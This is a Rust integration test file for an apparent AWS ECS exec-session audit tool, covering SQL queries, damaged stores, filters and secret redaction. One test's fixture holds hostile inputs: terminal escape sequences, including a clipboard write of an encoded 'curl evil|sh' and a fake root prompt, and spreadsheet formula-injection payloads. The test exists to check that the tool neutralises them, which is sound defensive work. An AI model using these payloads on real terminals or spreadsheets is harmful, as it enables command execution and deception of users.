//! The analysis engine through the real binary: SQL over the store, the shipped SQL examples,
//! the same answers on 1 and 2 threads, damaged and older stores, hostile text at the output
//! edge, and output piped into a reader that stops early.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;

use serde_json::Value;

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_execaudit"));
    c.current_dir(env!("CARGO_MANIFEST_DIR"));
    c.env_remove("EXECAUDIT_STORE");
    c
}

fn run(args: &[&str]) -> Output {
    bin().args(args).output().expect("binary runs")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// A store of the sample data, ingested once for the tests that only read it.
fn sample_store() -> &'static str {
    static STORE: OnceLock<(tempfile::TempDir, String)> = OnceLock::new();
    &STORE
        .get_or_init(|| {
            let dir = tempfile::tempdir().unwrap();
            let path = dir.path().join("store").to_str().unwrap().to_owned();
            let o = run(&["ingest", "sample-data", "--store", &path]);
            assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
            (dir, path)
        })
        .1
}

fn json(args: &[&str]) -> Value {
    let o = run(args);
    assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(&o)))
}

#[test]
fn query_answers_sql_over_tables_and_views() {
    let store = sample_store();
    let v = json(&[
        "query",
        "SELECT principal, count(*) AS sessions FROM sessions GROUP BY principal ORDER BY sessions DESC, principal",
        "--store",
        store,
        "--format",
        "json",
    ]);
    let rows = v.as_array().unwrap();
    assert!(rows.len() > 3, "{v}");
    let total: i64 = rows.iter().map(|r| r["sessions"].as_i64().unwrap()).sum();
    assert_eq!(total, 20, "the sample week has 20 sessions");
    // A join of a table and a view, with a filter.
    let v = json(&[
        "query",
        "SELECT s.principal, c.command FROM commands AS c JOIN sessions AS s ON c.session_id = s.session_id WHERE c.command LIKE '%wget%'",
        "--store",
        store,
        "--format",
        "json",
    ]);
    assert_eq!(v[0]["principal"], "tom.lee@example.com");
    // CSV and Parquet out.
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("s.parquet");
    let o = run(&[
        "query",
        "SELECT session_id, start_time FROM sessions",
        "--store",
        store,
        "--format",
        "parquet",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let df = polars::prelude::ParquetReader::new(std::fs::File::open(&out).unwrap());
    use polars::prelude::SerReader;
    assert_eq!(df.finish().unwrap().height(), 20);
}

/// `query` reads: a statement that would change a table is refused (exit 2, nothing on
/// stdout) and the store answers as before; `DESCRIBE` lists a table's columns and types.
/// `DELETE FROM commands` printed an empty table with exit 0, which reads like an emptied
/// store, and `DROP TABLE sessions` exited 0.
#[test]
fn query_refuses_statements_that_write_and_describes_tables() {
    let store = sample_store();
    for sql in [
        "DELETE FROM commands",
        "DROP TABLE sessions",
        "TRUNCATE TABLE commands",
        "CREATE TABLE x AS SELECT 1 AS a",
        "INSERT INTO commands VALUES (1)",
    ] {
        let o = run(&["query", sql, "--store", store]);
        assert_eq!(o.status.code(), Some(2), "{sql}: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "{sql}: {}", stdout(&o));
        assert!(
            stderr(&o).contains("only reads the store"),
            "{sql}: {}",
            stderr(&o)
        );
        assert!(!stderr(&o).contains("TokenWithSpan"), "{}", stderr(&o));
    }
    let v = json(&[
        "query",
        "SELECT count(*) AS n FROM commands",
        "--store",
        store,
        "--format",
        "json",
    ]);
    assert_eq!(v[0]["n"], 42, "the sample's 42 commands are all there: {v}");
    let v = json(&[
        "query",
        "DESCRIBE sessions",
        "--store",
        store,
        "--format",
        "json",
    ]);
    let cols: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["column"].as_str().unwrap())
        .collect();
    assert!(
        cols.contains(&"principal") && cols.contains(&"start_time"),
        "{v}"
    );
    assert!(
        v.as_array().unwrap().iter().all(|r| r["type"].is_string()),
        "{v}"
    );
    let o = run(&["query", "DESCRIBE nothing_here", "--store", store]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("no table or view \"nothing_here\""),
        "{}",
        stderr(&o)
    );
    assert!(
        stderr(&o).contains("tables and their columns"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn the_shipped_sql_examples_run_over_the_sample() {
    let store = sample_store();
    let mut ran = 0;
    for entry in std::fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("queries")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "sql") {
            continue;
        }
        let v = json(&[
            "query",
            path.to_str().unwrap(),
            "--store",
            store,
            "--format",
            "json",
        ]);
        let rows = v.as_array().unwrap();
        assert!(!rows.is_empty(), "{} answered nothing", path.display());
        match path.file_name().unwrap().to_str().unwrap() {
            "sessions-per-principal-per-week.sql" => {
                let n: i64 = rows.iter().map(|r| r["sessions"].as_i64().unwrap()).sum();
                assert_eq!(n, 20);
                assert!(rows.iter().all(|r| r["iso_week"] == 47), "{v}");
            }
            "commands-in-a-container.sql" => {
                assert!(rows
                    .iter()
                    .all(|r| r["cluster"] == "payments-prod" && r["container"] == "api"));
            }
            "sessions-without-a-transcript.sql" => {
                assert!(rows.iter().all(|r| r["transcript_status"] != "present"));
                assert!(
                    rows.iter().any(|r| r["transcript_status"] == "missing"),
                    "{v}"
                );
            }
            other => panic!("{other}: add what it must answer to this test"),
        }
        ran += 1;
    }
    assert_eq!(ran, 3);
}

#[test]
fn bad_sql_is_an_error_with_the_tables_and_nothing_on_stdout() {
    let store = sample_store();
    for sql in [
        "SELEC principal FROM sessions",
        "SELECT no_such_column FROM sessions",
        "SELECT * FROM no_such_table",
        // Unknown columns past the SELECT list: polars appended its plan (100-200 lines, the
        // store's paths included), twice.
        "SELECT * FROM sessions WHERE no_such_column = 1",
        "SELECT * FROM sessions ORDER BY no_such_column",
    ] {
        let o = run(&["query", sql, "--store", store, "--format", "csv"]);
        assert_eq!(o.status.code(), Some(2), "{sql}");
        assert!(o.stdout.is_empty(), "{sql}: partial output {}", stdout(&o));
        let e = stderr(&o);
        assert!(
            e.contains("tables and their columns:")
                && e.contains("  sessions: session_id, start_time"),
            "{e}"
        );
        // A mistake in the SQL is not a problem of the store.
        assert!(!e.contains("reading the store"), "{e}");
        assert!(
            !e.contains("Resolved plan") && !e.contains(".parquet") && e.lines().count() < 20,
            "{e}"
        );
    }
    let o = run(&[
        "query",
        "SELECT min(time), max(time) FROM commands",
        "--store",
        store,
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("name them with AS"), "{}", stderr(&o));
    let o = run(&[
        "query",
        "SELECT principal, cluster FROM sessions",
        "--store",
        store,
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("quote it (\"cluster\")"),
        "{}",
        stderr(&o)
    );
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("never.csv");
    let o = run(&[
        "query",
        "SELECT nope FROM sessions",
        "--store",
        store,
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(!out.exists(), "no partial file");
    // A folder given as the file: refused, and nothing left beside it.
    let o = run(&[
        "query",
        "SELECT 1 AS x",
        "--store",
        store,
        "--out",
        dir.path().to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("a folder, not a file"),
        "{}",
        stderr(&o)
    );
    let parent = dir.path().parent().unwrap();
    let name = format!(".{}.tmp", dir.path().file_name().unwrap().to_string_lossy());
    assert!(!parent.join(name).exists());
}

#[test]
fn answers_are_the_same_on_one_thread_and_two() {
    let store = sample_store();
    let out = |threads: &str, args: &[&str]| {
        let o = bin()
            .args(args)
            .env("POLARS_MAX_THREADS", threads)
            .env("RAYON_NUM_THREADS", threads)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        o.stdout
    };
    for args in [
        vec!["sessions", "--store", store, "--format", "jsonl"],
        vec!["commands", "--store", store, "--format", "jsonl"],
        vec!["search", "e", "--in-output", "--store", store, "--format", "jsonl"],
        vec!["query", "SELECT principal, count(*) AS n, sum(commands) AS c FROM sessions GROUP BY principal ORDER BY principal", "--store", store, "--format", "csv"],
        vec!["findings", "--store", store, "--format", "jsonl"],
    ] {
        assert_eq!(out("1", &args), out("2", &args), "{args:?}");
    }
}

/// A copy of the sample store to damage.
fn copy_store(to: &Path) -> PathBuf {
    let from = Path::new(sample_store());
    let dest = to.join("store");
    for e in walkdir::WalkDir::new(from) {
        let e = e.unwrap();
        let rel = e.path().strip_prefix(from).unwrap();
        let target = dest.join(rel);
        if e.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
    dest
}

#[test]
fn a_damaged_part_is_named_and_the_other_parts_still_answer() {
    let dir = tempfile::tempdir().unwrap();
    let store = copy_store(dir.path());
    let s = store.to_str().unwrap();
    let before = json(&["commands", "--store", s, "--format", "json"])
        .as_array()
        .unwrap()
        .len();
    // Cut one commands part in half.
    let part = walkdir::WalkDir::new(store.join("commands"))
        .into_iter()
        .map(|e| e.unwrap().into_path())
        .find(|p| p.extension().is_some_and(|e| e == "parquet"))
        .unwrap();
    let bytes = std::fs::read(&part).unwrap();
    std::fs::write(&part, &bytes[..bytes.len() / 2]).unwrap();
    let o = run(&["commands", "--store", s, "--format", "json"]);
    assert_eq!(o.status.code(), Some(2), "a damaged part is an error");
    assert!(
        stderr(&o).contains(part.file_name().unwrap().to_str().unwrap()),
        "{}",
        stderr(&o)
    );
    let after: Value = serde_json::from_slice(&o.stdout).unwrap();
    let n = after.as_array().unwrap().len();
    assert!(
        n > 0 && n < before,
        "{n} of {before}: the other parts answered"
    );
    assert!(part.exists(), "nothing is deleted");
    // Sessions do not read commands: unaffected, exit 0.
    assert_eq!(run(&["sessions", "--store", s]).status.code(), Some(0));
    // `show` reads a session's commands from the days of its transcripts only: a session
    // filed on the damaged part's day is shown with the part named (exit 2), the others as
    // before (exit 0).
    let ids = json(&["sessions", "--store", s, "--format", "json"]);
    let mut named = 0;
    for id in ids
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["session_id"].as_str().unwrap())
    {
        let o = run(&["show", id, "--store", s]);
        assert!(stdout(&o).contains(id), "{id}: {}", stderr(&o));
        match o.status.code() {
            Some(0) => {}
            Some(2) => {
                assert!(
                    stderr(&o).contains(part.file_name().unwrap().to_str().unwrap()),
                    "{}",
                    stderr(&o)
                );
                named += 1;
            }
            c => panic!("{id}: exit {c:?}: {}", stderr(&o)),
        }
    }
    assert!(named > 0, "a session of the damaged day names the part");
}

#[test]
fn a_store_written_before_manifests_still_answers() {
    let dir = tempfile::tempdir().unwrap();
    let store = copy_store(dir.path());
    std::fs::remove_file(store.join("manifest.json")).unwrap();
    let s = store.to_str().unwrap();
    let v = json(&["sessions", "--store", s, "--format", "json"]);
    assert_eq!(v.as_array().unwrap().len(), 20);
    // The next ingest adopts it: nothing lost, nothing doubled.
    let o = run(&["ingest", "sample-data", "--store", s]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(store.join("manifest.json").exists());
    assert_eq!(
        json(&["sessions", "--store", s, "--format", "json"])
            .as_array()
            .unwrap()
            .len(),
        20
    );
}

#[test]
fn a_missing_store_is_an_error_not_an_empty_answer() {
    for cmd in ["sessions", "commands", "attempts"] {
        let o = run(&[cmd, "--store", "/nonexistent/execaudit-store"]);
        assert_eq!(o.status.code(), Some(2), "{cmd}");
        assert!(stderr(&o).contains("no store here"), "{}", stderr(&o));
    }
    let o = run(&[
        "query",
        "SELECT 1",
        "--store",
        "/nonexistent/execaudit-store",
    ]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn piping_into_a_reader_that_stops_ends_quietly() {
    let mut child = bin()
        .args(["commands", "--store", sample_store(), "--format", "jsonl"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Read one byte, then hang up, as `head -c1` does.
    let mut out = child.stdout.take().unwrap();
    let mut one = [0u8; 1];
    out.read_exact(&mut one).unwrap();
    drop(out);
    let status = child.wait().unwrap();
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    assert_eq!(status.code(), Some(0), "{err}");
    assert!(!err.contains("Broken pipe"), "{err}");
}

#[test]
fn hostile_text_reaches_no_output_raw() {
    let dir = tempfile::tempdir().unwrap();
    // A user agent and role session name that write the clipboard (OSC 52), retitle the
    // window, clear the screen and fake a line; a command that opens as a spreadsheet formula.
    let rec = r#"{"Records":[{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","userName":"=HYPERLINK(\"http://evil\")"},"eventTime":"2024-05-15T08:00:00Z","eventSource":"ecs.amazonaws.com","eventName":"ExecuteCommand","awsRegion":"us-east-1","userAgent":"aws-cli\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b]0;pwned\u0007\u001b[2J\rroot@prod:~# \u009b31m","requestParameters":{"cluster":"c","task":"t","command":"@SUM(1+1)*cmd|' /C calc'!A0","interactive":true},"responseElements":{"session":{"sessionId":"ecs-execute-command-hostile0001"}},"eventID":"h1"}]}"#;
    let path = dir.path().join("trail.json");
    std::fs::write(&path, rec).unwrap();
    let store = dir.path().join("st");
    let (p, s) = (path.to_str().unwrap(), store.to_str().unwrap());
    assert_eq!(run(&["ingest", p, "--store", s]).status.code(), Some(0));
    let raw = |b: &[u8]| {
        b.iter().any(|&c| c == 0x1b || c == 0x07 || c == 0x7f)
            || String::from_utf8_lossy(b).contains('\u{9b}')
    };
    for args in [
        vec!["show", "hostile0001", "--store", s],
        vec!["sessions", "--store", s],
        vec!["sessions", "--store", s, "--format", "csv"],
        vec!["sessions", "--store", s, "--format", "json"],
        vec!["sessions", "--store", s, "--format", "jsonl"],
        vec![
            "query",
            "SELECT user_agent, principal FROM sessions",
            "--store",
            s,
        ],
        // Inside lists too (nested values were written by serde, controls raw).
        vec![
            "query",
            "SELECT array_agg(user_agent) AS agents FROM sessions",
            "--store",
            s,
            "--format",
            "json",
        ],
        vec![
            "query",
            "SELECT array_agg(user_agent) AS agents FROM sessions",
            "--store",
            s,
            "--format",
            "jsonl",
        ],
        vec!["audit", p],
    ] {
        let o = run(&args);
        assert!(
            !raw(&o.stdout),
            "{args:?} printed a raw control character: {}",
            stdout(&o)
        );
        assert!(
            !raw(&o.stderr),
            "{args:?} warned with a raw control character"
        );
    }
    let csv = stdout(&run(&["sessions", "--store", s, "--format", "csv"]));
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil\"\")\""),
        "{csv}"
    );
    assert!(csv.contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\""), "{csv}");
    let shown = stdout(&run(&["show", "hostile0001", "--store", s]));
    assert!(
        shown.contains("\\x1b]52;c;"),
        "the escape is shown, harmlessly: {shown}"
    );
}

/// `show` answers from one session's rows read into memory (`Dataset::session_slice`, one scan
/// of each table): for every session of the sample data (with and without an `ExecuteCommand`,
/// principals with several sessions, logging destinations, empty and cut-off transcripts), the
/// same row, findings, transcripts and commands as the views and findings over the whole store
/// give.
#[test]
fn one_sessions_rows_in_memory_answer_as_the_whole_store_does() {
    use execaudit::config::Filter;
    use execaudit::dataset::{Damage, Dataset};
    use polars::prelude::*;
    let data = Dataset::open(Path::new(sample_store())).unwrap();
    let (detector, _) = execaudit::detect::Detector::load(&Default::default()).unwrap();
    let ids = data
        .table("transcripts", None)
        .unwrap()
        .select([col("session_id")])
        .collect()
        .unwrap()
        .vstack(
            &data
                .table("exec_events", None)
                .unwrap()
                .select([col("session_id")])
                .collect()
                .unwrap(),
        )
        .unwrap()
        .column("session_id")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .map(str::to_owned)
        .collect::<std::collections::BTreeSet<_>>();
    assert!(ids.len() > 20, "{ids:?}");
    let mut damage = Damage::default();
    let all = data.findings(&detector, &mut damage).unwrap();
    let mut findings = 0;
    for id in &ids {
        let slice = data.session_slice(&mut damage, id, true).unwrap().unwrap();
        let f = Filter {
            session: Some(id.clone()),
            ..Filter::default()
        };
        let whole = all
            .clone()
            .lazy()
            .filter(col("session_id").eq(lit(id.clone())))
            .collect()
            .unwrap();
        let (part, row) = slice.session_findings(&detector, &mut damage, id).unwrap();
        assert!(whole.equals_missing(&part), "{id}: {whole}\n{part}");
        let own = data.sessions(&f).unwrap().collect().unwrap();
        assert!(own.equals_missing(&row), "{id}: {own}\n{row}");
        findings += whole.height();
        for text in [true, false] {
            let a = data
                .session_transcripts(id, text)
                .unwrap()
                .collect()
                .unwrap();
            let b = slice
                .session_transcripts(id, text)
                .unwrap()
                .collect()
                .unwrap();
            assert!(a.equals_missing(&b), "{id}: {a}\n{b}");
        }
        let a = data.commands(&f).unwrap().collect().unwrap();
        let b = slice.commands(&f).unwrap().collect().unwrap();
        assert!(a.equals_missing(&b), "{id}: {a}\n{b}");
        assert!(damage.parts.is_empty());
    }
    assert!(findings > 10, "{findings}");
    assert!(data
        .session_slice(&mut damage, "ecs-execute-command-nosuch", false)
        .unwrap()
        .is_none());
}

#[test]
fn a_filter_that_matches_no_session_is_an_empty_answer_not_an_error() {
    // Who or where naming no session (or a window without the sessions it names): `commands`
    // and `search` answered with a polars planning error (a column missing from the empty
    // answer) and exit 2.
    let store = sample_store();
    let filters: [&[&str]; 5] = [
        &["--principal", "nobody@example.com"],
        &["--container", "no-such-container"],
        &["--cluster", "no-such-cluster"],
        &["--task", "0000"],
        &["--principal", "*", "--since", "2030-01-01"],
    ];
    let commands: [&[&str]; 4] = [
        &["commands"],
        &["search", "ls"],
        &["search", "--regex", "l.s"],
        &["search", "--in-output", "root"],
    ];
    for command in commands {
        for filter in filters {
            let args = [command, filter, &["--store", store]].concat();
            let v = json(&[args.as_slice(), &["--format", "json"]].concat());
            assert_eq!(v, serde_json::json!([]), "{args:?}");
            let o = run(&[args.as_slice(), &["--format", "table"]].concat());
            assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
            assert!(stdout(&o).starts_with("time "), "{args:?}: {}", stdout(&o));
        }
    }
    // A filter that does match still answers: every command with a principal (the orphan
    // transcript's have none).
    let all = json(&["commands", "--store", store, "--format", "json"]);
    let all = all.as_array().unwrap();
    assert_eq!(all.len(), 42, "the sample's 42 commands");
    let v = json(&[
        "commands",
        "--principal",
        "*",
        "--store",
        store,
        "--format",
        "json",
    ]);
    let with_principal = all.iter().filter(|c| !c["principal"].is_null()).count();
    assert!(with_principal > 30);
    assert_eq!(v.as_array().unwrap().len(), with_principal);
}

#[test]
fn a_named_session_with_other_filters_keeps_to_all_of_them() {
    // `--session` beside who, where or when ignored them: every command of the session came
    // back, without its who and where.
    let store = sample_store();
    let rows = |extra: &[&str]| -> Vec<Value> {
        let args = [&["commands", "--store", store, "--format", "json"], extra].concat();
        json(&args).as_array().unwrap().clone()
    };
    let alone = rows(&["--session", "iz1hw"]);
    assert_eq!(alone.len(), 4);
    assert!(alone
        .iter()
        .all(|c| c["principal"] == "maria.garcia@example.com"));
    for other in [
        &["--principal", "nobody@example.com"][..],
        &["--cluster", "no-such-cluster"],
        &["--since", "2030-01-01"],
        &["--until", "2020-01-01"],
    ] {
        let with = rows(&[&["--session", "iz1hw"], other].concat());
        assert_eq!(with, Vec::<Value>::new(), "{other:?}");
    }
    assert_eq!(
        rows(&["--session", "iz1hw", "--principal", "maria*"]),
        alone
    );
    assert_eq!(
        rows(&["--session", "iz1hw", "--since", "2024-01-01"]),
        alone
    );
    // The orphan transcript's commands: all of them alone, none once a principal is asked for
    // (as `commands --principal '*'` leaves them out).
    assert_eq!(rows(&["--session", "0rph"]).len(), 3);
    assert_eq!(rows(&["--session", "0rph", "--principal", "*"]).len(), 0);
}

#[test]
fn who_and_where_mean_the_same_in_every_listing() {
    // `--principal` took a permission set or role name, and `--cluster`/`--task` an ARN, only
    // where exec events carry them as columns: `findings`, `control` and `attempts` answered
    // nothing for them.
    let store = sample_store();
    let rows = |args: &[&str]| -> Vec<Value> {
        let args = [args, &["--store", store, "--format", "json"]].concat();
        json(&args).as_array().unwrap().clone()
    };
    let control = rows(&["control"]);
    let by_developers = control
        .iter()
        .filter(|e| {
            e["role_arn"]
                .as_str()
                .is_some_and(|a| a.contains("/AWSReservedSSO_Developer_"))
        })
        .count();
    assert!(by_developers > 0);
    let role = "AWSReservedSSO_Developer_1a2b3c4d5e6f7a8b";
    for who in ["Developer", "developer", role] {
        assert_eq!(
            rows(&["control", "--principal", who]).len(),
            by_developers,
            "{who}"
        );
        let sessions = rows(&["sessions", "--principal", who]);
        assert_eq!(sessions.len(), 10, "{who}");
        let findings = rows(&["findings", "--principal", who]);
        assert!(!findings.is_empty(), "{who}");
        assert_eq!(rows(&["attempts", "--principal", who]).len(), 2, "{who}");
    }
    // A glob over the tasks of a cluster stays a glob over task ARNs: it matched every task
    // of the account once the id part stood alone.
    let all_tasks = "arn:aws:ecs:us-east-1:111122223333:task/payments-prod/*";
    assert_eq!(
        rows(&["sessions", "--task", all_tasks]),
        rows(&["sessions", "--cluster", "payments-prod"])
    );
    // A principal pattern with a path is matched against whole ARNs, in every listing.
    for listing in ["sessions", "control", "findings"] {
        assert!(
            rows(&[listing, "--principal", "sso.amazonaws.com/*"]).is_empty(),
            "{listing}"
        );
    }
    let cluster = "arn:aws:ecs:us-east-1:111122223333:cluster/payments-prod";
    let task = "88bf49d0ea491da7e741e250d6ea495b";
    for listing in ["sessions", "attempts", "control", "findings", "commands"] {
        let by_name = rows(&[listing, "--cluster", "payments-prod"]);
        assert!(!by_name.is_empty(), "{listing}");
        assert_eq!(rows(&[listing, "--cluster", cluster]), by_name, "{listing}");
        // Another account's cluster of the same name is not this one.
        let elsewhere = cluster.replace("111122223333", "999999999999");
        assert!(
            rows(&[listing, "--cluster", &elsewhere]).is_empty(),
            "{listing}"
        );
        let by_id = rows(&[listing, "--task", task]);
        assert!(!by_id.is_empty(), "{listing}");
        for arn in [
            format!("arn:aws:ecs:us-east-1:111122223333:task/payments-prod/{task}"),
            format!("arn:aws:ecs:us-east-1:111122223333:task/{task}"),
        ] {
            assert_eq!(rows(&[listing, "--task", &arn]), by_id, "{listing} {arn}");
        }
    }
}

#[test]
fn audit_keeps_orphan_transcripts_to_the_filters() {
    // The orphan transcript (no ExecuteCommand names it) was listed whatever the filters.
    let orphans = |extra: &[&str]| -> usize {
        let v = json(&[&["audit", "sample-data", "--format", "json"], extra].concat());
        v["orphan_transcripts"].as_array().unwrap().len()
    };
    assert_eq!(orphans(&[]), 1);
    assert_eq!(orphans(&["--since", "2024-11-01"]), 1);
    for f in [
        &["--since", "2030-01-01"][..],
        &["--until", "2000-01-01"],
        &["--principal", "*"],
        &["--container", "no-such-container"],
    ] {
        assert_eq!(orphans(f), 0, "{f:?}");
    }
}

#[test]
fn lists_from_sql_are_written_whole_and_redacted() {
    // A list (array_agg) was written as polars' display text, cut short with `…`.
    let store = sample_store();
    let sql = "SELECT account, array_agg(principal) AS ps FROM sessions GROUP BY account ORDER BY account";
    let v = json(&["query", sql, "--store", store, "--format", "json"]);
    let total: usize = v
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let ps = r["ps"].as_array().expect("a JSON array");
            assert!(ps
                .iter()
                .all(|p| p.as_str().is_some_and(|p| !p.contains('…'))));
            ps.len()
        })
        .sum();
    assert_eq!(total, 20);
    let o = run(&["query", sql, "--store", store, "--format", "csv"]);
    assert_eq!(o.status.code(), Some(0));
    let csv = stdout(&o);
    assert!(!csv.contains('…'), "{csv}");
    assert!(csv.contains(r#"[""maria.garcia@example.com"","#), "{csv}");
    // Strings inside a list are redacted like any other.
    let sql = "SELECT array_agg(output_excerpt) AS out FROM commands WHERE output_excerpt LIKE '%DB_PASSWORD%'";
    let o = run(&["query", sql, "--store", store, "--format", "json"]);
    assert!(
        stdout(&o).contains("DB_PASSWORD=<redacted:"),
        "{}",
        stdout(&o)
    );
    assert!(!stdout(&o).contains("xK9#mQ2vL8"));
    let o = run(&[
        "query",
        sql,
        "--store",
        store,
        "--format",
        "json",
        "--show-secrets",
    ]);
    assert!(stdout(&o).contains("xK9#mQ2vL8"));
}

#[test]
fn a_bound_before_any_day_name_prunes_nothing() {
    // A --since before 0000-03-01 had the day `invalid`, which sorts after every date: every
    // day was pruned and the listings were empty (findings, which filter rows, were not).
    let store = sample_store();
    for listing in ["sessions", "attempts", "commands", "control"] {
        let all = json(&[listing, "--store", store, "--format", "json"]);
        assert!(!all.as_array().unwrap().is_empty(), "{listing}");
        for since in ["0000-01-01", "1000000d"] {
            let v = json(&[
                listing, "--since", since, "--store", store, "--format", "json",
            ]);
            assert_eq!(v, all, "{listing} --since {since}");
        }
    }
}

#[test]
fn audit_lists_or_counts_every_control_event_the_store_keeps() {
    // The sessions' KMS data-key calls were neither listed nor counted by `audit`, while
    // `control` over a store of the same inputs lists them.
    let store = sample_store();
    let stored = json(&["control", "--store", store, "--format", "json"]);
    let kms = stored
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "kms_session")
        .count();
    assert!(kms > 0);
    let v = json(&["audit", "sample-data", "--format", "json"]);
    let listed = v["control_events"].as_array().unwrap().len();
    assert_eq!(v["summary"]["kms_session_events"], kms);
    assert_eq!(listed + kms, stored.as_array().unwrap().len());
    let o = run(&["audit", "sample-data"]);
    assert!(
        stderr(&o).contains(&format!("{kms} KMS data-key call(s)")),
        "{}",
        stderr(&o)
    );
}

#[test]
fn lists_in_parquet_output_are_redacted() {
    let store = sample_store();
    let dir = tempfile::tempdir().unwrap();
    let sql = "SELECT array_agg(output_excerpt) AS out FROM commands WHERE output_excerpt LIKE '%DB_PASSWORD%'";
    for (extra, secret_shown) in [(&[][..], false), (&["--show-secrets"][..], true)] {
        let out = dir.path().join("l.parquet");
        let args = [
            &[
                "query", sql, "--store", store, "--format", "parquet", "--out",
            ][..],
            &[out.to_str().unwrap()],
            extra,
        ]
        .concat();
        let o = run(&args);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        // LZ4 may compress the text: read it back through the tool's own SQL-free path.
        let bytes = std::fs::read(&out).unwrap();
        use polars::prelude::SerReader;
        let df = polars::prelude::ParquetReader::new(std::io::Cursor::new(bytes))
            .finish()
            .unwrap();
        let list = df
            .column("out")
            .unwrap()
            .list()
            .unwrap()
            .get_as_series(0)
            .unwrap();
        let text: String = list.str().unwrap().iter().flatten().collect();
        assert!(text.contains("DB_HOST="), "{text}");
        assert_eq!(text.contains("xK9#mQ2vL8"), secret_shown, "{text}");
    }
}

#[test]
fn a_store_that_is_a_file_is_said_once() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("st");
    std::fs::write(&file, b"x").unwrap();
    let o = run(&["ingest", "sample-data", "--store", file.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    let e = stderr(&o);
    assert_eq!(e.matches("a file, not a store folder").count(), 1, "{e}");
}

#[test]
fn output_that_ends_like_a_command_is_found() {
    // `search --in-output` dropped every output line ending with one of the session's
    // commands (`README  devtools` after `ls`), taking it for the command's own echo.
    let dir = tempfile::tempdir().unwrap();
    let tx = dir.path().join("tx");
    std::fs::create_dir_all(&tx).unwrap();
    std::fs::write(
        tx.join("ecs-execute-command-m0q5opy05vfc03k661ra5u6eue.log"),
        "Script started on 2024-11-22 10:00:00+00:00 [COMMAND=\"cat /var/lib/amazon/ssm/ipc/ecs-exec/ipcTempFile.log\" <not executed on terminal>]\n/app # ls\r\r\nREADME  devtools\r\r\n/app # cat /etc/hostname\r\r\nbuild-host-cat /etc/hostname\r\r\n/app # exit\r\r\n\nScript done on 2024-11-22 10:00:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n",
    )
    .unwrap();
    let store = dir.path().join("st");
    let s = store.to_str().unwrap();
    assert_eq!(
        run(&["ingest", tx.to_str().unwrap(), "--store", s])
            .status
            .code(),
        Some(0)
    );
    for (pattern, line) in [
        ("devtools", "README  devtools"),
        ("build-host", "build-host-cat /etc/hostname"),
    ] {
        let v = json(&[
            "search",
            pattern,
            "--in-output",
            "--store",
            s,
            "--format",
            "json",
        ]);
        let hits = v.as_array().unwrap();
        assert_eq!(hits.len(), 1, "{pattern}: {v}");
        assert_eq!(hits[0]["command"], line);
        assert_eq!(hits[0]["found_in"], "output");
    }
    // The commands' own lines are still not output.
    let v = json(&[
        "search",
        "hostname",
        "--in-output",
        "--store",
        s,
        "--format",
        "json",
    ]);
    let found: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["found_in"] == "output")
        .map(|h| h["command"].as_str().unwrap())
        .collect();
    assert_eq!(found, ["build-host-cat /etc/hostname"], "{v}");
}
